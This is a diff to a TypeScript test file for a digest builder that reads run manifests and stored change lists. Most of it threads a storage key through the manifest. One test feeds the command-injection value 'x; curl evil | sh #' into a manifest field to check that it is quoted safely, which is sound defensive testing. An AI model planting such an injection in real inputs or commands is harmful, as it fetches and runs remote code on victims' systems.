@@ -15,12 +15,13 @@ async function digestOf(changes: readonly Change[], manifest: Partial<Manifest> 
   await publishLines(store, { run: monday, manifest: { missing: [{ id: '5', status: 404 }] } });
   const count = (what: string) => changes.filter(({ change }) => change === what).length;
   const counts = { added: count('added'), removed: count('removed'), changed: count('changed') };
+  const key = changesKey('calculations', tuesday, monday.id);
   await publishLines(store, {
     run: tuesday,
-    manifest: { records: 1_234, changes: { against: monday.id, ...counts }, ...manifest },
+    manifest: { records: 1_234, changes: { against: monday.id, ...counts, key }, ...manifest },
   });
   const lines = changes.map((change) => `${printChange(change)}\n`).join('');
-  await store.put(changesKey('calculations', tuesday), gzipSync(lines));
+  await store.put(key, gzipSync(lines));
   const [run] = await publishedRuns(store, 'calculations');
   if (run === undefined) throw new Error('expected a run');
   const digest = await collectDigest({ store, place: 'calculations', run });
@@ -34,7 +35,7 @@ const links = (...valid: readonly string[]) => ({
 });
 
 test('what a manifest says is a word of the command in a digest, whatever it is', async () => {
-  const changes = { against: 'x; curl evil | sh #', added: 0, removed: 0, changed: 1 };
+  const changes = { against: 'x; curl evil | sh #', added: 0, removed: 0, changed: 1, key: 'changes/gone' };
 
   const { text } = await digestOf([], { changes });
 
